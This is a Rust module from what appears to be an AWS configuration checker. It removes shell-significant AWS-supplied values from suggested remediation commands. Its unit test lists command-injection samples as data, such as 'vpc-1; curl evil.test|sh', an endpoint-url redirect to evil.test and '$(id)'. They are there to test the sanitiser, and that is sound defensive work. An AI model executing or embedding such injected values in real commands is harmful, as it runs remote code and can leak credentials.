//! What AWS and the instance metadata service say is put into commands that a person copies, and a file of facts may
//! come from anybody. So no command holds a text of theirs that a shell reads as more than the word that it stands for.

use std::collections::BTreeSet;

use serde_json::Value;

use crate::facts::{AwsFacts, Instance};
use crate::rules::Finding;
use crate::text::plain_word;

/// Stands in a command for what is not put there.
const PLACE: &str = "<as-AWS-has-it>";

/// Takes out of all commands what is no plain word.
pub(in super::super) fn hold(aws: &AwsFacts, instance: Option<&Instance>, findings: &mut [Finding]) {
    let has_commands = |finding: &Finding| finding.remedies.iter().any(|remedy| !remedy.commands.is_empty());
    if !findings.iter().any(has_commands) {
        return;
    }
    // By way of its text, in which documents are written and read.
    let facts = serde_json::to_string(&(aws, instance)).and_then(|text| serde_json::from_str::<Value>(&text));
    let Ok(facts) = facts else {
        return;
    };
    let mut texts = BTreeSet::new();
    collect(&facts, "", &mut texts);
    // The longest first: a shorter one may be a part of it.
    let mut texts: Vec<&str> = texts.into_iter().collect();
    texts.sort_by_key(|text| std::cmp::Reverse(text.len()));
    let remedies = findings.iter_mut().flat_map(|finding| &mut finding.remedies);
    for command in remedies.flat_map(|remedy| &mut remedy.commands) {
        for text in &texts {
            if command.contains(text) {
                *command = without(command, text);
            }
        }
    }
}

fn without(command: &str, text: &str) -> String {
    if !text.starts_with('-') {
        return command.replace(text, PLACE);
    }
    // What only looks like an option is one where it is a word.
    let words = command.split(' ').map(|word| if word == text { PLACE } else { word });
    words.collect::<Vec<_>>().join(" ")
}

/// The texts that are not to stand in a command.
fn collect<'a>(value: &'a Value, key: &str, texts: &mut BTreeSet<&'a str>) {
    match value {
        Value::String(text) if is_more_than_a_word(key, text) => {
            texts.insert(text);
            // A hosted zone's id is printed without "/hostedzone/", and a resource's without its ARN.
            let behind = text.match_indices('/').map(|(at, _)| &text[at + 1..]);
            texts.extend(behind.filter(|id| is_more_than_a_word("id", id)));
        }
        Value::Array(items) => items.iter().for_each(|item| collect(item, key, texts)),
        Value::Object(members) => members.iter().for_each(|(key, member)| collect(member, key, texts)),
        _ => {}
    }
}

/// Whether a shell reads more in it than one word. Of ids and names this is more than letters, digits and a few marks;
/// a description has blanks, and is in no command but in quotes.
fn is_more_than_a_word(key: &str, text: &str) -> bool {
    let is_one_word = ["id", "ids", "arn", "region", "name"].iter().any(|end| {
        key.strip_suffix(end)
            .is_some_and(|rest| rest.is_empty() || rest.ends_with('_'))
    });
    let means_something = |c: char| "$`\"'\\;&|<>(){}\n\r".contains(c) || c.is_control();
    !text.trim().is_empty() && (text.contains(means_something) || is_one_word && plain_word(text, "").is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::{Confidence, Remedy};

    fn commands(facts: &str, command: &str) -> String {
        let aws: AwsFacts = serde_json::from_str(facts).expect("facts");
        let rule = crate::rules::find("no-forwarding").expect("a rule");
        let mut findings = [rule
            .finding_at_large(Confidence::High)
            .summary("s")
            .why("w")
            .fix([Remedy::new("t", [command])])];
        hold(&aws, None, &mut findings);
        findings[0].remedies[0].commands[0].clone()
    }

    #[test]
    fn a_command_holds_words_of_aws_alone() {
        let of_vpc = |id: &str| serde_json::json!({"vpc": {"id": id, "cidrs": []}}).to_string();
        for hostile in [
            "vpc-1; curl evil.test|sh",
            "vpc-1 --endpoint-url https://evil.test",
            "$(id)",
            "`id`",
            "vpc-1' 'x",
            "vpc-1\nid",
            "vpc-1>x",
            "--endpoint-url=https://evil.test",
        ] {
            let command = format!("aws ec2 describe-vpcs --vpc-ids {hostile}");
            assert_eq!(
                commands(&of_vpc(hostile), &command),
                format!("aws ec2 describe-vpcs --vpc-ids {PLACE}"),
                "{hostile}"
            );
        }
        let plain = "aws ec2 describe-vpcs --vpc-ids vpc-0a1b2c3d --query 'a[?b==`c`]'";
        assert_eq!(commands(&of_vpc("vpc-0a1b2c3d"), plain), plain);
    }
}
